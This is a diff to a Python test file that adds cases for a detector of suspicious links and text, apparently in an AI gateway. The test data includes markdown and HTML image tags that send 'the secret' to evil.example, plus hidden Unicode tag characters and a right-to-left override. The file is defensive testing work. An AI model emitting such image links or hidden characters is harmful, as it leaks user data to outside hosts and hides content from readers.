@@ -21,6 +21,12 @@ from tests.gateway.test_providers_over_the_wire import OPENAI, House, house  # n
         ("see https://\u043f\u043e\u0448\u0442\u0430.example/", ()),
         ("Data: four weeks. Note: none.", ()),
         ("https://[half", ("malformed",)),
+        ("![chart](https://evil.example/?q=the+secret)", ("remote_image",)),
+        ("<img width=1 src='//evil.example/x'>", ("remote_image",)),
+        ("![chart](/files/chart.png)", ()),
+        ("Four weeks.\U000e0049\U000e0067", ("hidden_text",)),
+        ("turn \u202e around", ("hidden_text",)),
+        ("\U0001f469\u200d\U0001f52c measures", ()),
     ],
 )
 def test_what_is_odd_about_a_link_is_told(text: str, oddities: tuple[str, ...]) -> None:
